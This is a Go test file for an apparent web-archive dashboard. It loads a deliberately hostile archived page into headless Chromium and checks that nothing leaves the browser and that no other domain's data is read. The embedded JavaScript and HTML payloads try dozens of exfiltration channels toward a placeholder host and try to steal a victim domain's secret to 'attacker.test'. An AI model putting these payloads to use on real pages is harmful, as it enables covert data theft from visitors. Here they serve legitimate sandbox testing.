package dashboard

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"freshet/clock"
)

// hostileScript tries every way out of a stored page that a browser has. OUT is the host and port that listens,
// EACH the kind of try. What it can read of others goes with the tries.
const hostileScript = `
const out = kind => 'http://OUT/' + kind + '?' + encodeURIComponent(window.loot || '');
const tries = {
	fetch: () => fetch(out('fetch'), {mode: 'no-cors'}),
	xhr: () => { const x = new XMLHttpRequest(); x.open('GET', out('xhr')); x.send(); },
	beacon: () => navigator.sendBeacon(out('beacon'), 'x'),
	image: () => { new Image().src = out('image'); },
	script: () => { const s = document.createElement('script'); s.src = out('script'); document.head.append(s); },
	style: () => { document.body.style.background = 'url(' + out('style') + ')'; },
	font: () => new FontFace('f', 'url(' + out('font') + ')').load(),
	media: () => { const a = document.createElement('video'); a.src = out('media'); a.load(); document.body.append(a); },
	object: () => { const o = document.createElement('object'); o.data = out('object'); document.body.append(o); },
	frame: () => { const f = document.createElement('iframe'); f.src = out('frame'); document.body.append(f); },
	inner: () => { const f = document.createElement('iframe'); f.srcdoc = '<script>new Image().src="' + out('inner') +
		'"; try { top.location = "' + out('inner-top') + '" } catch (e) {} location = "' + out('inner-self') + '"</' + 'script>'; document.body.append(f); },
	ping: () => { const a = document.createElement('a'); a.href = '#'; a.ping = out('ping'); document.body.append(a); a.click(); },
	prefetch: () => link('prefetch'), preload: () => link('preload'), preconnect: () => link('preconnect'), prerender: () => link('prerender'),
	manifest: () => link('manifest'), icon: () => link('icon'), modulepreload: () => link('modulepreload'),
	rules: () => { const s = document.createElement('script'); s.type = 'speculationrules';
		s.text = JSON.stringify({prefetch: [{source: 'list', urls: [out('rules')]}], prerender: [{source: 'list', urls: [out('rules')]}]}); document.head.append(s); },
	socket: () => new WebSocket('ws://OUT/socket'),
	source: () => new EventSource(out('source')),
	transport: () => new WebTransport('https://OUT/transport'),
	webrtc: async () => {
		const p = new RTCPeerConnection({iceServers: [{urls: 'stun:OUT'}, {urls: 'turn:OUT?transport=tcp', username: 'loot', credential: 'x'}]});
		p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer());
	},
	worker: () => new Worker(URL.createObjectURL(new Blob(['fetch("' + out('worker') + '", {mode: "no-cors"}); importScripts("' + out('worker') + '")']))),
	service: () => navigator.serviceWorker.register(location.href),
	open: () => { open(out('open')); open(out('open-blank'), '_blank', 'noopener'); },
	form: () => { const f = document.createElement('form'); f.action = out('form'); f.method = 'post'; document.body.append(f); f.submit(); },
	target: () => { const a = document.createElement('a'); a.href = out('target'); a.target = '_blank'; document.body.append(a); a.click(); },
	top: () => { const a = document.createElement('a'); a.href = out('top'); a.target = '_top'; document.body.append(a); a.click(); },
	toplocation: () => { top.location = out('toplocation'); },
	parent: () => { parent.location.href = out('parent'); },
	refresh: () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0; url=' + out('refresh'); document.head.append(m); },
	self: () => { location.href = out('self'); },
	assign: () => { location.replace(out('assign')); },
	click: () => { const a = document.createElement('a'); a.href = out('click'); document.body.append(a); a.click(); },
};
function link(rel) { const l = document.createElement('link'); l.rel = rel; l.as = 'image'; l.href = out(rel); document.head.append(l); }
(async () => {
	const at = location.pathname, reads = [];
	for (const path of [
		at.replace('attacker.test', 'victim.test'), at.replaceAll('attacker.test', 'victim.test'),
		'/web/20260101120000/http://victim.test/', '/web/20260101120000id_/http://victim.test/', '/web/20260101120000sc_/http://victim.test/',
		'/api/v1/content?url=http://victim.test/', at.replace(/http:.*/, 'http://www.attacker.test/own'),
	]) {
		reads.push(fetch(path).then(r => r.text()).then(text => window.loot = (window.loot || '') + path + '=' + text, () => {}));
		reads.push(new Promise(done => { const s = document.createElement('script'); s.src = path; s.onload = s.onerror = done; document.head.append(s); }));
	}
	await Promise.all(reads);
	const report = what => fetch(at.replace(/http:.*/, 'http://attacker.test/said?' + encodeURIComponent(what)), {mode: 'no-cors'}).catch(() => {});
	await report('read ' + (window.loot || '') + (window.secret || ''));
	const only = EACH;
	for (const name in tries) if (!only || only === name)
		try { await Promise.race([tries[name](), new Promise(done => setTimeout(done, 30))]); } catch (e) {}
	await report('done');
})();
`

// hostileMarkup are the ways out that need no script.
const hostileMarkup = `<link rel=preconnect href="//OUT/"><link rel="dns-prefetch" href="//OUT/"><link rel=preconnect href="http:&#x2f;&#47;OUT/">
<link rel=prefetch href=http://OUT/markup-prefetch><link rel=stylesheet href=http://OUT/markup-sheet>
<meta http-equiv=refresh content="5;url=http://OUT/markup-refresh"><style>@import "http:/\/OUT/markup-import"; body { background: u\72l(http://OUT/markup-css) }</style>
<body background=http://OUT/markup-background><noscript><img src=http://OUT/markup-noscript></noscript><img srcset="http://OUT/markup-srcset 1x">
<svg><image href=http://OUT/markup-svg /><use href="http://OUT/markup-use#x"/></svg><iframe src=http://OUT/markup-frame></iframe>
<iframe srcdoc="<link rel=preconnect href=//OUT/><img src=http://OUT/markup-inner><meta http-equiv=refresh content='0;url=http://OUT/markup-inner-refresh'>"></iframe>
<embed src=http://OUT/markup-embed><object data=http://OUT/markup-object></object><video src=http://OUT/markup-video poster=http://OUT/markup-poster></video>
<frameset><frame src=http://OUT/markup-frameset></frameset><link rel=icon href=http://OUT/markup-icon>`

// stored is a Reader of a hostile page, of its neighbour and of the page of a victim.
type stored struct {
	past
	attack string
	mu     *sync.Mutex
	said   *[]string
}

func (s stored) History(u string) (History, error) {
	if _, said, ok := strings.Cut(u, "/said?"); ok {
		s.mu.Lock()
		*s.said = append(*s.said, said)
		s.mu.Unlock()
	}
	if slices.Contains([]string{"http://attacker.test/", "http://www.attacker.test/own", "http://victim.test/"}, u) {
		return s.past.History(u)
	}
	return History{}, ErrNotFound
}

func (s stored) Content(u string, n uint32, _ time.Time) (Content, error) {
	body := "<!doctype html><title>hostile</title>" + s.attack
	switch {
	case strings.Contains(u, "victim.test"):
		body = `window.secret = "the victim's secret"`
	case strings.Contains(u, "/own"):
		body = "the neighbour's own"
	}
	return Content{Version: s.versions[n-1], Header: http.Header{"Content-Type": {"text/html"}}, Body: bodyOf(body)}, nil
}

// outside listens for whatever leaves the browser, over TCP and UDP.
type outside struct {
	address string
	mu      sync.Mutex
	arrived []string
}

func (o *outside) note(what string) {
	o.mu.Lock()
	defer o.mu.Unlock()
	o.arrived = append(o.arrived, what)
}

func (o *outside) take() []string {
	o.mu.Lock()
	defer o.mu.Unlock()
	arrived := o.arrived
	o.arrived = nil
	return arrived
}

func listenOutside(t *testing.T) *outside {
	t.Helper()
	packets, err := net.ListenPacket("udp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o := &outside{address: packets.LocalAddr().String()}
	streams, err := net.Listen("tcp", o.address)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { packets.Close(); streams.Close() })
	go func() {
		buffer := make([]byte, 2048)
		for {
			n, _, err := packets.ReadFrom(buffer)
			if err != nil {
				return
			}
			o.note(fmt.Sprintf("udp %.20q", buffer[:n]))
		}
	}()
	go func() {
		for {
			conn, err := streams.Accept()
			if err != nil {
				return
			}
			go func() {
				defer conn.Close()
				o.note("a connection")
				buffer := make([]byte, 2048)
				_ = conn.SetReadDeadline(clock.Real().Deadline(2 * time.Second))
				n, _ := conn.Read(buffer)
				line, _, _ := bytes.Cut(buffer[:n], []byte("\r\n"))
				o.note(fmt.Sprintf("tcp %.200q", line))
			}()
		}
	}()
	return o
}

// TestHostilePageInBrowser shows a page that tries every way out of a browser, with and without its scripts:
// nothing arrives outside, and its scripts read nothing of another domain.
func TestHostilePageInBrowser(t *testing.T) {
	browser, err := exec.LookPath("chromium")
	if err != nil {
		t.Skip("no chromium: make setup installs it")
	}
	out := listenOutside(t)
	options := slices.Concat(chromedp.DefaultExecAllocatorOptions[:], []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(browser), chromedp.NoSandbox, chromedp.WSURLReadTimeout(time.Minute),
	})
	allocator, stop := chromedp.NewExecAllocator(t.Context(), options...)
	t.Cleanup(stop)
	root, _ := chromedp.NewContext(allocator) // ends with the allocator
	if err := chromedp.Do(root, chromedp.Navigate("about:blank")); err != nil {
		t.Fatal(err)
	}
	kinds := []string{"", "self"} // all tries one after another; the first that leads the page away hides the rest
	if os.Getenv("FRESHET_WAYS_OUT") == "each" {
		kinds = []string{"", "self", "assign", "click", "refresh", "top", "toplocation", "parent", "form", "target", "inner", "webrtc", "preconnect"}
	}
	for _, kind := range kinds {
		for _, address := range []string{"/web/20260101120000/http://attacker.test/", "/web/20260101120000sc_/http://attacker.test/"} {
			only := "null"
			if kind != "" {
				only = "'" + kind + "'"
			}
			var mu sync.Mutex
			var said []string
			attack := strings.NewReplacer("OUT", out.address, "EACH", only).Replace(hostileMarkup + "<script>" + hostileScript + "</script>")
			reader := stored{past{state: "live", versions: []Version{versionNumber(1)}}, attack, &mu, &said}
			reader.versions[0].At = time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)
			server := httptest.NewServer(Handler(Options{Reader: reader}))
			tab, _ := chromedp.NewContext(root)
			loading, stopLoading := context.WithTimeout(tab, 5*time.Second)
			// a page may keep itself from ever being loaded
			_ = chromedp.Do(loading, chromedp.Navigate(server.URL+address))
			stopLoading()
			scripts := strings.Contains(address, "sc_")
			told := func() []string {
				mu.Lock()
				defer mu.Unlock()
				return slices.Clone(said)
			}
			for wait := 400; scripts && !slices.Contains(told(), "done") && wait > 0; wait-- {
				_ = clock.Real().Sleep(t.Context(), 20*time.Millisecond)
			}
			_ = clock.Real().Sleep(t.Context(), 300*time.Millisecond) // for what is still on its way
			server.CloseClientConnections()
			server.Close()
			t.Logf("%s %s: %.300q", kind, address, told())
			heard := strings.Join(told(), "\n")
			if arrived := out.take(); len(arrived) > 0 {
				t.Errorf("try %q of %s: outside arrived\n%s", kind, address, strings.Join(arrived, "\n"))
			}
			if strings.Contains(heard, "secret") {
				t.Errorf("%s reads what is of another domain: %s", address, heard)
			}
			if scripts && !strings.Contains(heard, "neighbour") {
				t.Errorf("%s: its script has not run, or could not read what is of its own domain: %s", address, heard)
			}
			if !scripts && heard != "" {
				t.Errorf("%s: a script has run: %s", address, heard)
			}
		}
	}
}
